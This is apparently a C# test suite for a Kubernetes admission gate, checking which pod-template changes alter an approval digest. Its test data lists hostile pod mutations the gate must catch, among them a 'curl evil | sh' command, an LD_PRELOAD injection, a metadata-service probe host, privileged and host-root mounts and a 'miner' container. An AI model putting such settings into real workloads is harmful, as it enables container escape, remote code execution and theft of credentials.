using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;
using Governance.Gates.Admission;
using Governance.Gates.Testing;

namespace Governance.Gates.Tests.Admission;

/// <summary>What of a pod template an approval covers, and what servers may add to it without a new one.</summary>
public sealed class TemplateProjectionTests
{
    // Approvals name these. A change here is another version of the projection, never a correction of this one.
    private const string DeploymentDigest = "sha256:1fda9387df00ae0503891365895c77e8b769e18c319b6a2f3455665c0fd5ca94";
    private const string WithoutLabelsDigest = "sha256:8a410dbdd21fd108227d3879e958bda81162e0130b702723b884ef3f366be7c4";
    private const string StatefulSetDigest = "sha256:0a988a9d11710de486255dfcc382a54f1635113c6329b1793ac1a0e34a447618";
    private const string Token = """{"name":"kube-api-access-7xk2q","readOnly":true,"mountPath":"/var/run/secrets/kubernetes.io/serviceaccount"}""";

    public static TheoryData<string, string> Recorded => new()
    {
        { "deployment.yaml", DeploymentDigest }, { "deployment-stored.json", DeploymentDigest }, { "pod-1.20.json", DeploymentDigest },
        { "pod-1.30.json", DeploymentDigest }, { "pod-1.30-sidecars.json", DeploymentDigest },
        { "statefulset.yaml", StatefulSetDigest }, { "statefulset-stored.json", StatefulSetDigest }, { "statefulset-pod.json", StatefulSetDigest },
    };

    /// <summary>A path in the pod, and the value that it gets there.</summary>
    public static TheoryData<string, string> Kept => new()
    {
        { "spec/containers/0/image", $"\"registry.example.com/shop/api@sha256:{new string('9', 64)}\"" },
        { "spec/containers/0/image", "\"registry.example.com/shop/api:v2\"" },
        { "spec/containers/0/command", "[\"sh\",\"-c\",\"curl evil | sh\"]" },
        { "spec/containers/0/args/+", "\"--debug\"" },
        { "spec/containers/0/workingDir", "\"/tmp\"" },
        { "spec/containers/0/env/+", "{\"name\":\"LD_PRELOAD\",\"value\":\"/tmp/x.so\"}" },
        { "spec/containers/0/env/0/value", "\"us\"" },
        { "spec/containers/0/env/+", "{\"name\":\"JOB_COMPLETION_INDEX\",\"value\":\"7\"}" },
        { "spec/containers/0/envFrom/+", "{\"secretRef\":{\"name\":\"other\"}}" },
        { "spec/containers/0/envFrom/0/configMapRef/name", "\"other\"" },
        { "spec/containers/0/volumeMounts/0/mountPath", "\"/bin\"" },
        { "spec/containers/0/volumeMounts/0/subPath", "\"a\"" },
        { "spec/containers/0/volumeMounts/0/mountPropagation", "\"Bidirectional\"" },
        { "spec/containers/0/volumeMounts/3/readOnly", "false" },
        { "spec/containers/0/volumeDevices", "[{\"name\":\"claim\",\"devicePath\":\"/dev/sda\"}]" },
        { "spec/containers/0/ports/0/hostPort", "8080" },
        { "spec/containers/0/ports/1/hostPort", "9091" },
        { "spec/containers/0/lifecycle/postStart", "{\"exec\":{\"command\":[\"/bin/evil\"]}}" },
        { "spec/containers/0/lifecycle/preStop/exec/command/0", "\"/bin/evil\"" },
        { "spec/containers/0/readinessProbe/exec/command/+", "\"-x\"" },
        { "spec/containers/0/livenessProbe/httpGet/host", "\"169.254.169.254\"" },
        { "spec/containers/0/startupProbe/tcpSocket/port", "22" },
        { "spec/containers/0/terminationMessagePath", "\"/etc/passwd\"" },
        { "spec/containers/0/securityContext/privileged", "true" },
        { "spec/containers/0/securityContext/readOnlyRootFilesystem", "false" },
        { "spec/containers/0/securityContext/allowPrivilegeEscalation", "true" },
        { "spec/containers/0/securityContext/capabilities/add", "[\"SYS_ADMIN\"]" },
        { "spec/containers/0/securityContext/runAsUser", "0" },
        { "spec/containers/0/securityContext/runAsNonRoot", "false" },
        { "spec/containers/0/securityContext/procMount", "\"Unmasked\"" },
        { "spec/containers/0/securityContext/seccompProfile/type", "\"Unconfined\"" },
        { "spec/containers/0/inventedLater", "{\"reach\":\"everything\"}" },
        { "spec/containers/0/Command", "[\"sh\"]" },
        { "spec/containers/+", "{\"name\":\"miner\",\"image\":\"a\"}" },
        { "spec/initContainers/0/command/0", "\"/bin/evil\"" },
        { "spec/initContainers/0/restartPolicy", "\"Always\"" },
        { "spec/ephemeralContainers", "[{\"name\":\"debug\",\"image\":\"a\",\"targetContainerName\":\"api\"}]" },
        { "spec/securityContext/runAsUser", "0" },
        { "spec/securityContext/runAsNonRoot", "false" },
        { "spec/securityContext/fsGroup", "0" },
        { "spec/securityContext/supplementalGroups", "[0]" },
        { "spec/securityContext/sysctls", "[{\"name\":\"kernel.shm_rmid_forced\",\"value\":\"1\"}]" },
        { "spec/securityContext/appArmorProfile", "{\"type\":\"Unconfined\"}" },
        { "spec/volumes/+", "{\"name\":\"host\",\"hostPath\":{\"path\":\"/\"}}" },
        { "spec/volumes/1", "{\"name\":\"cache\",\"hostPath\":{\"path\":\"/etc\"}}" },
        { "spec/volumes/1/emptyDir/medium", "\"Memory\"" },
        { "spec/volumes/+", "{\"name\":\"late\",\"inventedLater\":{}}" },
        { "spec/volumes/4/hostPath/path", "\"/var/lib/kubelet\"" },
        { "spec/volumes/2/projected/sources/1/secret/name", "\"other\"" },
        { "spec/volumes/2/projected/sources/2/serviceAccountToken/audience", "\"other\"" },
        { "spec/volumes/5/persistentVolumeClaim/claimName", "\"ledger\"" },
        { "spec/serviceAccountName", "\"admin\"" },
        { "spec/automountServiceAccountToken", "false" },
        { "spec/automountServiceAccountToken", "true" },
        { "spec/hostNetwork", "true" }, { "spec/hostPID", "true" }, { "spec/hostIPC", "true" }, { "spec/hostUsers", "false" },
        { "spec/shareProcessNamespace", "true" }, { "spec/runtimeClassName", "\"kata\"" }, { "spec/restartPolicy", "\"Never\"" },
        { "spec/enableServiceLinks", "false" }, { "spec/setHostnameAsFQDN", "true" },
        { "spec/hostAliases/0/ip", "\"10.0.0.8\"" },
        { "spec/dnsPolicy", "\"None\"" }, { "spec/dnsConfig/nameservers", "[\"8.8.8.8\"]" },
        { "spec/inventedLater", "true" },
        { "metadata/annotations/container.apparmor.security.beta.kubernetes.io~1api", "\"unconfined\"" },
        { "metadata/annotations/seccomp.security.alpha.kubernetes.io~1pod", "\"unconfined\"" },
        { "metadata/annotations/io.kubernetes.cri-o.Devices", "\"/dev/kmsg\"" },
        { "metadata/annotations/devices.nri.io~1container.api", "\"- path: /dev/sda\"" },
        { "metadata/annotations/k8s.v1.cni.cncf.io~1networks", "\"backbone\"" },
        // The pod has a file with all of its labels.
        { "metadata/labels/app", "\"other\"" }, { "metadata/labels/added", "\"\"" }, { "metadata/labels/pod-template-hash", "\"vowels\"" },
    };

    public static TheoryData<string, string> LeftOut => new()
    {
        { "metadata/labels/pod-template-hash", "\"9b4d\"" }, { "metadata/annotations/note", "\"x\"" }, { "metadata/name", "\"api-x\"" }, { "metadata/generateName", "\"api-\"" },
        { "metadata/creationTimestamp", "null" }, { "metadata/ownerReferences", "[]" }, { "status", "{\"phase\":\"Running\"}" },
        { "spec/containers/0/resources", "{\"limits\":{\"memory\":\"1Gi\"}}" }, { "spec/containers/0/imagePullPolicy", "\"Always\"" }, { "spec/containers/0/tty", "true" },
        { "spec/containers/0/image", $"\"registry.example.com/shop/api:v7@sha256:{new string('1', 64)}\"" },
        { "spec/containers/0/readinessProbe/periodSeconds", "60" },
        { "spec/containers/0/volumeMounts/0/readOnly", "false" },
        { "spec/nodeName", "\"node-2\"" }, { "spec/tolerations", "[]" }, { "spec/affinity", "{}" }, { "spec/priority", "100" }, { "spec/schedulerName", "\"mine\"" },
        { "spec/imagePullSecrets", "[{\"name\":\"pull\"}]" }, { "spec/hostname", "\"api-0\"" }, { "spec/terminationGracePeriodSeconds", "5" },
        { "spec/serviceAccount", "\"ignored-beside-the-name\"" }, { "spec/hostNetwork", "null" }, { "spec/containers/0/lifecycle/postStart", "null" },
        { "spec/containers/0/env/+", """{"name":"JOB_COMPLETION_INDEX","valueFrom":{"fieldRef":{"apiVersion":"v1","fieldPath":"metadata.annotations['batch.kubernetes.io/job-completion-index']"}}}""" },
        { "metadata/annotations/seccomp.security.alpha.kubernetes.io~1pod", "\"runtime/default\"" },
        { "metadata/annotations/container.seccomp.security.alpha.kubernetes.io~1api", "\"localhost/api.json\"" },
    };

    /// <summary>What resembles an injected token, and is not.</summary>
    public static TheoryData<string, string, string> LookAlikes => new()
    {
        { "spec/volumes/6", """{"name":"kube-api-access-7xk2q","secret":{"secretName":"ledger-key"}}""", "another secret" },
        { "spec/volumes/6", """{"name":"kube-api-access-7xk2q","hostPath":{"path":"/"}}""", "the node's files" },
        { "spec/volumes/6/projected/sources/+", """{"secret":{"name":"ledger-key"}}""", "a secret beside the token" },
        { "spec/volumes/6/projected/sources/0/serviceAccountToken/audience", "\"vault\"", "a token for somebody else" },
        { "spec/volumes/6/projected/sources/0/serviceAccountToken/expirationSeconds", "86400", "a token that lives longer" },
        { "spec/volumes/6/projected/sources/1/configMap/name", "\"other\"", "another authority" },
        { "spec/volumes/6/projected/defaultMode", "511", "other permissions" },
        { "spec/volumes/6/inventedLater", "1", "a field nobody knows" },
        { "spec/containers/0/volumeMounts/4/mountPath", "\"/usr/bin\"", "mounted elsewhere" },
        { "spec/containers/0/volumeMounts/4/readOnly", "false", "to be written" },
        { "spec/containers/0/volumeMounts/4/subPath", "\"token\"", "a part of it" },
        { "spec/containers/0/volumeMounts/+", """{"name":"kube-api-access-7xk2q","readOnly":true,"mountPath":"/also"}""", "mounted twice" },
        { "spec/volumes/+", """{"name":"trader-token-4spjb","secret":{"secretName":"trader-token-4spjb"}}""", "two tokens" },
        { "spec/volumes/6", """{"name":"kube-api-access-7xk2q","secret":{"secretName":"trader-token-4spjb"}}""", "a name that is not the secret's" },
    };

    [Theory, MemberData(nameof(Recorded))]
    public void What_a_user_wrote_what_is_stored_and_the_pod_have_one_digest(string file, string digest) =>
        Assert.Equal(digest, Templates.Digest(Templates.Recorded(file), [.. Templates.Sidecars]));

    [Fact]
    public void Where_no_label_is_read_or_none_is_there_the_projection_has_none() =>
        Assert.Equal(WithoutLabelsDigest, Templates.Digest(Templates.Pod().With("metadata/labels", """{"pod-template-hash":"6cbc96d6b5"}""")));

    [Theory, MemberData(nameof(Kept))]
    public void A_change_of_what_runs_or_what_it_reaches_is_another_projection(string path, string value)
    {
        var changed = Templates.Projection(Unescaped(Templates.Pod(), path, value));
        Assert.NotEqual(DeploymentDigest, changed.Digest.ToString());
        Assert.NotEmpty(TemplateProjection.Difference(Templates.Projection(Templates.Pod()).Json, changed.Json));
    }

    [Theory, MemberData(nameof(LeftOut))]
    public void A_change_of_what_is_left_out_changes_nothing(string path, string value) =>
        Assert.Equal(DeploymentDigest, Templates.Digest(Unescaped(Templates.Pod(), path, value)));

    [Theory, MemberData(nameof(LookAlikes))]
    public void What_looks_like_the_injected_token_and_is_not_counts(string path, string value, string because)
    {
        Assert.Equal(Token, Templates.Pod()["spec"]!["containers"]![0]!["volumeMounts"]![4]!.DeepClone().ToJsonString().Replace("\"mountPath\":\"/var/run/secrets/kubernetes.io/serviceaccount\",\"name\":\"kube-api-access-7xk2q\",\"readOnly\":true", Token[1..^1], StringComparison.Ordinal));
        Assert.True(Templates.Digest(Templates.Pod().With(path, value)) != DeploymentDigest, because);
    }

    [Theory]
    [InlineData("trader-token-4spjb", true, "the token of the pod's own account")]
    [InlineData("trader-token-aeiou", false, "a server makes names without vowels")]
    [InlineData("trader-token-4spjbb", false, "a longer name")]
    [InlineData("admin-token-4spjb", false, "the token of another account")]
    [InlineData("ledger-key", false, "any other secret")]
    public void The_secret_of_a_token_is_left_out_by_the_name_that_the_token_controller_gives_it(string secret, bool leftOut, string because)
    {
        var pod = JsonNode.Parse(Templates.Recorded("pod-1.20.json").ToJsonString().Replace("trader-token-4spjb", secret, StringComparison.Ordinal))!;
        Assert.True(Templates.Digest(pod) == DeploymentDigest == leftOut, because);
    }

    [Fact]
    public void A_template_that_forbids_the_token_has_none_injected()
    {
        var without = Templates.Recorded("deployment.yaml").With("spec/template/spec/automountServiceAccountToken", "false");
        var with = Templates.Pod().With("spec/automountServiceAccountToken", "false");
        Assert.NotEqual(Templates.Digest(without), Templates.Digest(with));
    }

    [Fact]
    public void A_sidecar_counts_unless_the_policy_names_it()
    {
        var pod = Templates.Recorded("pod-1.30-sidecars.json");
        Assert.NotEqual(DeploymentDigest, Templates.Digest(pod));
        Assert.NotEqual(DeploymentDigest, Templates.Digest(pod, "istio-proxy"));
        Assert.Equal(DeploymentDigest, Templates.Digest(pod, "istio-proxy", "istio-init"));
    }

    [Theory]
    [InlineData("spec/volumes/0", """{"name":"istio-envoy","hostPath":{"path":"/"}}""", "the node's files")]
    [InlineData("spec/volumes/0", """{"name":"istio-envoy","secret":{"secretName":"ledger-key"}}""", "a secret")]
    [InlineData("spec/volumes/0", """{"name":"istio-envoy","projected":{"sources":[{"secret":{"name":"ledger-key"}}]}}""", "a secret in a projection")]
    [InlineData("spec/containers/0/volumeMounts/+", """{"name":"istio-envoy","mountPath":"/mesh"}""", "a volume that the application mounts too")]
    [InlineData("spec/containers/1/securityContext", """{"privileged":true}""", "a privileged container")]
    [InlineData("spec/ephemeralContainers", """[{"name":"istio-proxy2","image":"a"}]""", "a debug container")]
    public void A_named_sidecar_brings_in_no_more_than_itself(string path, string value, string because) =>
        Assert.True(Templates.Digest(Templates.Recorded("pod-1.30-sidecars.json").With(path, value), [.. Templates.Sidecars, "istio-proxy2"]) != DeploymentDigest, because);

    [Theory]
    [InlineData("data-book-0", "book-0", true, "the claim that the StatefulSet made for this pod")]
    [InlineData("data-book-1", "book-0", false, "the claim of another pod")]
    [InlineData("ledger-book-0", "book-0", false, "the claim of another template")]
    [InlineData("data-book-x", "book-x", false, "no pod of a StatefulSet")]
    public void The_claim_of_a_StatefulSets_pod_is_its_own(string claim, string pod, bool own, string because)
    {
        var changed = Templates.Recorded("statefulset-pod.json").With("metadata/name", $"\"{pod}\"");
        var volume = changed["spec"]!["volumes"]!.AsArray().Single(one => one!["name"]!.GetValue<string>() == "data")!;
        volume["persistentVolumeClaim"]!["claimName"] = claim;
        Assert.True(Templates.Digest(changed) == StatefulSetDigest == own, because);
    }

    [Fact]
    public void On_the_nodes_network_a_host_port_that_the_server_wrote_is_no_change()
    {
        var written = Templates.Pod().With("spec/hostNetwork", "true");
        Assert.Equal(Templates.Digest(written), Templates.Digest(Templates.Pod().With("spec/hostNetwork", "true").With("spec/containers/0/ports/0/hostPort", "8080")));
        Assert.NotEqual(Templates.Digest(written), Templates.Digest(Templates.Pod().With("spec/hostNetwork", "true").With("spec/containers/0/ports/0/hostPort", "80")));
    }

    [Fact]
    public void A_profile_that_only_an_annotation_names_is_not_the_field()
    {
        var annotated = Unescaped(Templates.Pod(), "metadata/annotations/seccomp.security.alpha.kubernetes.io~1pod", "\"runtime/default\"");
        annotated["spec"]!["securityContext"]!.AsObject().Remove("seccompProfile");
        Assert.NotEqual(DeploymentDigest, Templates.Digest(annotated));
    }

    [Theory, MemberData(nameof(Workloads.Names), MemberType = typeof(Workloads))]
    public void Every_kind_with_a_pod_template_has_a_projection(string kind)
    {
        var review = Workloads.Review(kind, TestPolicy.Good);
        var read = TemplateProjection.OfObject(review.Group, kind, JsonSerializer.SerializeToElement(review.Object), []);
        if (kind == "ControllerRevision")
        {
            Assert.Null(read);
        }
        else
        {
            Assert.Equal(Templates.Digest(Workloads.Object("Pod", TestPolicy.Good)), Assert.IsType<Reading<TemplateProjection>.Found>(read).Value.Digest.ToString());
        }
    }

    [Fact]
    public void A_template_and_a_pod_are_read_alone_too()
    {
        var deployment = JsonSerializer.SerializeToElement(Templates.Recorded("deployment.yaml"));
        var template = TemplateProjection.OfTemplate(deployment.GetProperty("spec").GetProperty("template"), []);
        var pod = TemplateProjection.OfPod(JsonSerializer.SerializeToElement(Templates.Pod()), []);
        Assert.Equal(DeploymentDigest, Assert.IsType<Reading<TemplateProjection>.Found>(template).Value.Digest.ToString());
        Assert.Equal(DeploymentDigest, Assert.IsType<Reading<TemplateProjection>.Found>(pod).Value.Digest.ToString());
    }

    [Fact]
    public void Order_and_defaults_never_change_the_digest() => Prop.ForAll(Arb.From(Gen.Choose(0, int.MaxValue - 1)), seed =>
    {
        var random = new Random(seed);
        var pod = Templates.Pod();
        AddDefaults(pod["spec"]!.AsObject(), TemplateSchema.PodSpec, random);
        Assert.Equal(DeploymentDigest, Templates.Digest(Shuffled(pod, random)));
    }).Check(Config.QuickThrowOnFailure.WithMaxTest(200));

    [Fact]
    public void Any_change_of_a_projection_is_another_one() => Prop.ForAll(Arb.From(Gen.Choose(0, int.MaxValue - 1)), seed =>
    {
        var random = new Random(seed);
        var projection = JsonNode.Parse(Templates.Projection(Templates.Pod()).Json.Span)!;
        var pod = new JsonObject { ["apiVersion"] = "v1", ["kind"] = "Pod", ["metadata"] = new JsonObject { ["labels"] = projection["labels"]!.DeepClone() }, ["spec"] = projection["spec"]!.DeepClone() };
        Assert.Equal(DeploymentDigest, Templates.Digest(pod));
        var what = Change(random.Next(20) == 0 ? pod["metadata"]!["labels"]! : pod["spec"]!, random);
        if (Templates.Read(pod) is Reading<TemplateProjection>.Found(var changed))
        {
            Assert.True(changed.Digest.ToString() != DeploymentDigest, what);
        }
    }).Check(Config.QuickThrowOnFailure.WithMaxTest(500));

    [Theory]
    [InlineData("{}", "is missing")]
    [InlineData("[]", "is no object")]
    [InlineData("7", "is no object")]
    [InlineData("""{"spec":null}""", "/spec is no object")]
    [InlineData("""{"spec":{}}""", "holds no container")]
    [InlineData("""{"spec":{"containers":{}}}""", "/spec/containers is no list")]
    [InlineData("""{"spec":{"containers":[null]}}""", "/spec/containers/0 is no object")]
    [InlineData("""{"spec":{"containers":[{"image":"a"}]}}""", "without a name")]
    [InlineData("""{"spec":{"containers":[{"name":"a"},{"name":"a"}]}}""", "has the name a twice")]
    [InlineData("""{"spec":{"containers":[{"name":"a"}],"initContainers":[{"name":"a"}]}}""", "has the name a twice")]
    [InlineData("""{"spec":{"containers":[{"name":"a"}],"volumes":[{"name":"v"},{"name":"v"}]}}""", "has the name v twice")]
    [InlineData("""{"spec":{"containers":[{"name":"a","command":"sh"}]}}""", "/spec/containers/0/command is no list")]
    [InlineData("""{"spec":{"containers":[{"name":"a","command":[7]}]}}""", "/spec/containers/0/command/0 is no text")]
    [InlineData("""{"spec":{"containers":[{"name":"a","command":["x"],"command":null}]}}""", "has the field command twice")]
    [InlineData("""{"spec":{"containers":[{"name":"a"}],"later":{"x":1,"x":2}}}""", "has the field x twice")]
    [InlineData("""{"spec":{"containers":[{"name":"a"}],"later":1.5}}""", "is no integer")]
    [InlineData("""{"spec":{"containers":[{"name":"a"}],"later":1e99999}}""", "is no integer")]
    [InlineData("""{"spec":{"containers":[{"name":"a","workingDir":"\ud800"}]}}""", "is no text")]
    [InlineData("""{"spec":{"containers":[{"name":"a"}],"\udc00":1}}""", "name is no text")]
    [InlineData("""{"spec":{"containers":[{"name":"a"}],"hostPID":"true"}}""", "neither true nor false")]
    [InlineData("""{"metadata":[],"spec":{"containers":[{"name":"a"}]}}""", "/metadata is no object")]
    [InlineData("""{"metadata":{"annotations":{"cdi.k8s.io/x":1}},"spec":{"containers":[{"name":"a"}]}}""", "/metadata/annotations/cdi.k8s.io~1x is no text")]
    [InlineData("""{"metadata":{"labels":{"x":1}},"spec":{"containers":[{"name":"a","env":[{"name":"X","valueFrom":{"fieldRef":{"fieldPath":"metadata.labels['x']"}}}]}]}}""", "/metadata/labels/x is no text")]
    [InlineData("""{"metadata":{"labels":{"x":"1","x":"2"}},"spec":{"containers":[{"name":"a","env":[{"name":"X","valueFrom":{"fieldRef":{"fieldPath":"metadata.labels['x']"}}}]}]}}""", "/metadata/labels has the field x twice")]
    [InlineData("""{"metadata":{"labels":[]},"spec":{"containers":[{"name":"a","env":[{"name":"X","valueFrom":{"fieldRef":{"fieldPath":"metadata.labels['x']"}}}]}]}}""", "/metadata/labels is no object")]
    public void What_is_no_pod_cannot_be_read_and_says_where(string json, string why)
    {
        var reason = Assert.IsType<Reading<TemplateProjection>.Unread>(TemplateProjection.OfPod(JsonDocument.Parse(json).RootElement, [])).Reason;
        Assert.Contains(why, reason.Message, StringComparison.Ordinal);
        Assert.NotNull(reason.Remedy);
    }

    [Fact]
    public void A_projection_is_bounded_in_size_and_depth()
    {
        var large = Templates.Pod().With("spec/containers/0/args/+", $"\"{new string('x', TemplateProjection.MaxBytes)}\"");
        Assert.Contains("more than 1024 KiB", Assert.IsType<Reading<TemplateProjection>.Unread>(Templates.Read(large)).Reason.Message, StringComparison.Ordinal);
        var deep = "{\"spec\":{\"containers\":[{\"name\":\"a\"}],\"later\":" + new string('[', 200) + new string(']', 200) + "}}";
        Assert.IsType<Reading<TemplateProjection>.Unread>(TemplateProjection.OfPod(JsonDocument.Parse(deep, new() { MaxDepth = 300 }).RootElement, []));
    }

    [Fact]
    public void No_mutation_of_a_workload_throws() => Prop.ForAll(Arb.From(Gen.Choose(0, int.MaxValue - 1)), seed =>
    {
        var random = new Random(seed);
        var workload = Templates.Recorded(random.Next(2) == 0 ? "statefulset-stored.json" : "pod-1.30-sidecars.json");
        for (var i = 0; i < 3; i++)
        {
            Break(workload, random);
        }

        foreach (var (group, kind) in (ReadOnlySpan<(string, string)>)[("", "Pod"), ("apps", "StatefulSet"), ("apps", "Deployment"), ("batch", "CronJob")])
        {
            Assert.NotNull(TemplateProjection.OfObject(group, kind, JsonSerializer.SerializeToElement(workload), Templates.Sidecars));
        }
    }).Check(Config.QuickThrowOnFailure.WithMaxTest(500));

    [Fact]
    public void A_projection_in_a_statement_is_read_back_whatever_its_spelling()
    {
        var projection = Templates.Projection(Templates.Pod());
        var spelled = Shuffled(JsonNode.Parse(projection.Json.Span)!, new Random(7)).ToJsonString(new() { WriteIndented = true });
        var parsed = TemplateProjection.TryParse(JsonDocument.Parse(spelled).RootElement);
        Assert.Equal(projection.Digest, parsed?.Digest);
        Assert.True(projection.Json.Span.SequenceEqual(parsed!.Json.Span));
    }

    [Theory]
    [InlineData("7")]
    [InlineData("{}")]
    [InlineData("""{"type":"https://governance.gates/projections/pod-template/v2","spec":{}}""")]
    [InlineData("""{"type":"https://governance.gates/projections/pod-template/v1"}""")]
    [InlineData("""{"type":"https://governance.gates/projections/pod-template/v1","spec":{},"more":1}""")]
    [InlineData("""{"type":"https://governance.gates/projections/pod-template/v1","spec":{"a":1,"a":2}}""")]
    [InlineData("""{"type":"https://governance.gates/projections/pod-template/v1","spec":{"a":1.5}}""")]
    [InlineData("""{"type":"https://governance.gates/projections/pod-template/v1","spec":{"a":"\ud800"}}""")]
    public void What_is_no_projection_of_this_version_is_not_taken_for_one(string json) =>
        Assert.Null(TemplateProjection.TryParse(JsonDocument.Parse(json).RootElement));

    [Fact]
    public void The_canonical_form_is_that_of_RFC_8785()
    {
        var pod = JsonDocument.Parse("""{"spec":{"containers":[{"name":"a","args":["\u20ac$\u000f\nA'\u0042\u0022\u005c\\\"\/\u00e9\ud83d\ude00"],"image":"x"}],"b":{"\u20ac":1,"\r":-0,"1":100,"\ud83d\ude00":true,"\ufb33":false}}}""").RootElement;
        Assert.Equal(
            "{\"spec\":{\"b\":{\"\\r\":0,\"1\":100,\"€\":1,\"😀\":true,\"\uFB33\":false},\"containers\":[{\"args\":[\"€$\\u000f\\nA'B\\\"\\\\\\\\\\\"/é😀\"],\"image\":\"x\",\"name\":\"a\"}],\"serviceAccountName\":\"default\"},\"type\":\"https://governance.gates/projections/pod-template/v1\"}",
            Encoding.UTF8.GetString(Assert.IsType<Reading<TemplateProjection>.Found>(TemplateProjection.OfPod(pod, [])).Value.Json.Span));
    }

    [Fact]
    public void The_published_page_lists_every_field_that_is_left_out_and_every_default()
    {
        var page = File.ReadAllText(Path.Combine(ProjectTree.Root, "docs/formats/template.md"));
        var missing = TemplateSchema.All()
            .Where(one => !one.Path.StartsWith("initContainers[]", StringComparison.Ordinal) && !one.Path.StartsWith("ephemeralContainers[]", StringComparison.Ordinal))
            .Select(one => one.Field switch
            {
                { Form: FieldForm.LeftOut } => $"`{one.Path}`",
                { Default: { } usual } => $"| `{one.Path}` | `{usual}` |",
                { EmptyIsNothing: true } => $"| `{one.Path}` | `{{}}` |",
                _ => "",
            })
            .Where(line => !page.Contains(line, StringComparison.Ordinal));
        Assert.Equal("", string.Join('\n', missing));
    }

    private static JsonNode Unescaped(JsonNode pod, string path, string value)
    {
        if (!path.Contains('~', StringComparison.Ordinal))
        {
            return pod.With(path, value);
        }

        pod["metadata"]!["annotations"]![path.Split('/')[^1].Replace("~1", "/", StringComparison.Ordinal)] = JsonNode.Parse(value);
        return pod;
    }

    private static void AddDefaults(JsonObject node, TemplateShape shape, Random random)
    {
        foreach (var (name, field) in shape.Fields)
        {
            if (node[name] is { } there)
            {
                foreach (var inner in field.Shape is null ? [] : there is JsonArray list ? list.OfType<JsonObject>() : [there.AsObject()])
                {
                    AddDefaults(inner, field.Shape!, random);
                }
            }
            else if (random.Next(2) == 0)
            {
                node[name] = random.Next(4) == 0 ? null : field switch
                {
                    { Form: FieldForm.LeftOut } => JsonNode.Parse("""[{"anything":1.5},"x"]"""),
                    { Default: { } usual } => JsonNode.Parse(usual),
                    { Form: FieldForm.Text } when name != "name" => "",
                    { Form: FieldForm.Texts or FieldForm.Shapes } => new JsonArray(),
                    { EmptyIsNothing: true } => new JsonObject(),
                    _ => null,
                };
            }
        }
    }

    private static JsonNode Shuffled(JsonNode node, Random random) => node switch
    {
        JsonObject members => new JsonObject(members.OrderBy(_ => random.Next()).Select(member => KeyValuePair.Create(member.Key, member.Value is null ? null : Shuffled(member.Value, random)))),
        JsonArray list => new JsonArray([.. list.Select(item => item is null ? null : Shuffled(item, random))]),
        _ => node.DeepClone(),
    };

    /// <summary>Changes one thing somewhere below, and says what.</summary>
    private static string Change(JsonNode node, Random random)
    {
        while (true)
        {
            var children = (node switch { JsonObject members => members.Select(member => member.Value!), JsonArray list => list.Select(item => item!), _ => [] }).Where(child => child is JsonObject or JsonArray).ToArray();
            if (children.Length == 0 || random.Next(5) == 0)
            {
                break;
            }

            node = children[random.Next(children.Length)];
        }

        var at = node.GetPath();
        if (node is JsonArray items)
        {
            items.Add(items[0]!.DeepClone());
            return $"{at}: an item twice";
        }

        var @object = node.AsObject();

        // Without a source a volume is an emptyDir: that one may be said or not.
        var names = @object.Select(member => member.Key).Where(name => name != "emptyDir").ToArray();
        if (names.Length == 0 || random.Next(4) == 0)
        {
            @object["inventedLater"] = "x";
            return $"{at}: a new field";
        }

        var name = names[random.Next(names.Length)];
        switch (@object[name])
        {
            case JsonValue value when random.Next(3) > 0:
                @object[name] = value.GetValueKind() switch
                {
                    JsonValueKind.String => value.GetValue<string>() + "x",
                    JsonValueKind.Number => value.GetValue<long>() + 1,
                    _ => !value.GetValue<bool>(),
                };
                return $"{at}.{name}: another value";
            default:
                @object.Remove(name);
                return $"{at}.{name}: removed";
        }
    }

    private static void Break(JsonNode node, Random random)
    {
        JsonNode?[] values = [null, true, -1.5e300, "", "kube-api-access-7xk2q", new JsonArray(), new JsonObject(), new JsonArray(1, null, new JsonObject())];
        while (true)
        {
            var children = (node switch { JsonObject members => members.Select(member => member.Value), JsonArray list => list, _ => (IEnumerable<JsonNode?>)[] }).Where(child => child is JsonObject { Count: > 0 } or JsonArray { Count: > 0 }).ToArray();
            if (children.Length == 0 || random.Next(6) == 0)
            {
                break;
            }

            node = children[random.Next(children.Length)]!;
        }

        var value = values[random.Next(values.Length)];
        if (node is JsonArray array)
        {
            array[random.Next(array.Count)] = value;
        }
        else if (node is JsonObject { Count: > 0 } @object)
        {
            @object[@object.ElementAt(random.Next(@object.Count)).Key] = value;
        }
    }
}
